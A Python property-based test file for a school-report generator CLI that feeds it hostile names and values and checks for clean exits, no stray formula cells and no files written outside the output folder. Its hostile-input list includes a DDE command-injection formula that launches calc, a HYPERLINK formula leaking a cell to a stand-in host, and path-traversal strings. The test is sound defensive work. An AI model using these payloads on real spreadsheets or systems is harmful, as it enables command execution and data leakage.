"""Every writing verb, driven with generated hostile names and values, stays safe.

For each generated input and verb: the exit code is 0, 1 or 2; there is no traceback; on
exit 2 nothing is written; every workbook junheng writes has no formula cell except the
ledger's own =SUM; every file name junheng chose stays inside the output folder.
"""
from __future__ import annotations

import copy
import re
import tempfile
from pathlib import Path

import openpyxl
import yaml
from click.testing import CliRunner
from hypothesis import HealthCheck, event, given, settings, strategies as st

from conftest import GOOD_PRIMARY, REPO, examples
from generator.cli import main

HOSTILE_TEXT = ['=HYPERLINK("http://x/?"&A1,"点此")', "=cmd|' /C calc'!A0", "+1", "-1+1", "@SUM(A1)", "\t=1",
                "\r=1", ".", "..", " ", "CON", "a/b\\c", "{{ x }}", "{% for %}", "<w:p>", "&amp;", "#N/A",
                "甲\x01乙", "甲\ufffe乙", "甲\x1f", "\u202e反向", "..\\..\\x", "名" * 300, "名" * 40_000, "",
                "school", "null", "true", "16:21", "2024-02-30"]
text = st.one_of(st.sampled_from(HOSTILE_TEXT), st.sampled_from(["东社小学", "城关第一小学", "A&B <一小>"]),
                 st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=40))
# raw YAML scalars, written as they are (not quoted): what a careless or hostile file holds
RAW_NUMBERS = ["1234567890123456789012345", "9" * 5000, "1e308", "-1", ".nan", ".inf", "16:21", "0x1F", "0o17",
               "010", "1e-20", "0.0000001", "999999999999999", "1000000000000000", "!!binary 5Lit", "~", "[1, 2]",
               "{a: 1}", "*x", "'13,125'", "85%", "'65万元'", "0.8000000000000002"]
number = st.one_of(st.sampled_from(RAW_NUMBERS), st.integers(0, 10**6).map(str), st.integers(-10**20, 10**20).map(str),
                   st.floats(allow_nan=False, allow_infinity=False).map(repr))
NUMBER_KEYS = ["students", "books", "computers", "land_area_m2", "network_space_rate", "classes", "teachers"]

VERBS = ["check-xlsx", "plan-ledger", "report", "export-xlsx", "export-yaml", "audit", "slogans-for",
         "each-school", "slogans-centre", "publicity", "publicity-each"]
LEDGER_SUM = re.compile(r"=SUM\([A-Z]+\d+:[A-Z]+\d+\)")


def _school_yaml(name, responsible, key, raw):
    data = copy.deepcopy(GOOD_PRIMARY)
    data["name"] = name
    data["responsibles"] = {"K3": responsible, "default": name}
    data.pop(key, None)
    text = yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10**9)
    return text + f"{key}: {raw}\n"


def _county_yaml(names, key, raw):
    schools = []
    for name in names:
        entry = copy.deepcopy(GOOD_PRIMARY)
        entry.pop("kind")
        entry["name"] = name
        schools.append(entry)
    text = yaml.safe_dump({"kind": "county", "name": names[0], "schools": schools}, allow_unicode=True,
                          sort_keys=False, width=10**9)
    return text + f"year: {raw}\n"


def _centre_yaml(names, site, raw):
    data = yaml.safe_load((REPO / "samples" / "dongong-centre.yaml").read_text(encoding="utf-8"))
    data["schools"] = [{"name": name, "banner_sites": [site, "学校门口"]} for name in names]
    text = yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10**9)
    return text.replace("news_per_month: 1\n", f"news_per_month: {raw}\n")


def _args(verb, facts, out):
    return {
        "check-xlsx": ["check", facts, "--xlsx", out / "结论.xlsx"],
        "plan-ledger": ["plan", facts, "-o", out / "方案.docx", "--ledger", out / "台账.xlsx", "--date", "2024-09-01"],
        "report": ["report", facts, "-o", out / "报告.docx", "--date", "2024-09-01"],
        "export-xlsx": ["export", facts, "-o", out / "导出.xlsx"],
        "export-yaml": ["export", facts, "-o", out / "导出.yaml"],
        "audit": ["audit", facts, "-o", out / "意见.docx"],
        "slogans-for": ["slogans", "--for", facts, "-o", out / "标语.xlsx"],
        "each-school": ["report", facts, "--each-school", "-o", out / "各校", "--jobs", "1", "--date", "2024-09-01"],
        "slogans-centre": ["slogans", "--centre", facts, "-o", out / "标语.xlsx"],
        "publicity": ["publicity", facts, "-o", out / "方案.docx"],
        "publicity-each": ["publicity", facts, "--each-school", "-o", out / "各校"],
    }[verb]


def _written(out: Path) -> list[Path]:
    return [p for p in out.rglob("*") if p.is_file()]


def _check(verb, source_text):
    with tempfile.TemporaryDirectory() as folder:
        folder = Path(folder)
        facts = folder / "facts.yaml"
        facts.write_text(source_text, encoding="utf-8")
        out = folder / "out"
        out.mkdir()
        result = CliRunner().invoke(main, [str(a) for a in _args(verb, facts, out)], catch_exceptions=True)
        assert result.exit_code in (0, 1, 2), (verb, result.output[-2000:])
        assert result.exception is None or isinstance(result.exception, SystemExit), \
            (verb, repr(result.exception), result.output[-2000:])
        assert "Traceback" not in result.output
        written = _written(out)
        event(f"exit {result.exit_code}, {'files' if written else 'no files'}")
        if result.exit_code == 2 and verb == "each-school" and "未生成" in result.output:
            # the documented exception (README, generator/cli/each_school.py): with --each-school the good schools'
            # reports are written and the bad ones named; only those named are missing
            assert len(written) < len(re.findall(r"^- name: ", source_text, flags=re.M))
        elif result.exit_code == 2:
            assert written == [], (verb, written, result.output[-1000:])
        for path in written:
            assert out in path.parents                           # no name escapes the folder
            assert not path.name.startswith(".")                 # no temporary file left behind
            if path.suffix == ".xlsx":
                book = openpyxl.load_workbook(path)
                formulas = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row
                            if c.data_type == "f"]
                assert all(LEDGER_SUM.fullmatch(f) for f in formulas) and len(formulas) <= 1, (verb, formulas)
                if formulas:
                    assert verb == "plan-ledger"


SETTINGS = settings(max_examples=examples(60), deadline=None, suppress_health_check=[HealthCheck.too_slow])


@SETTINGS
@given(verb=st.sampled_from(["check-xlsx", "plan-ledger", "report", "export-xlsx", "export-yaml", "audit",
                             "slogans-for"]),
       name=text, responsible=text, key=st.sampled_from(NUMBER_KEYS), raw=number)
def test_school_verbs_with_hostile_input(verb, name, responsible, key, raw):
    _check(verb, _school_yaml(name, responsible, key, raw))


@SETTINGS
@given(verb=st.sampled_from(["check-xlsx", "each-school", "export-xlsx"]),
       names=st.lists(text, min_size=1, max_size=3), raw=number)
def test_county_verbs_with_hostile_names(verb, names, raw):
    _check(verb, _county_yaml(names, "year", raw))


@SETTINGS
@given(verb=st.sampled_from(["slogans-centre", "publicity", "publicity-each"]),
       names=st.lists(text, min_size=1, max_size=3), site=text, raw=number)
def test_centre_verbs_with_hostile_names(verb, names, site, raw):
    _check(verb, _centre_yaml(names, site, raw))
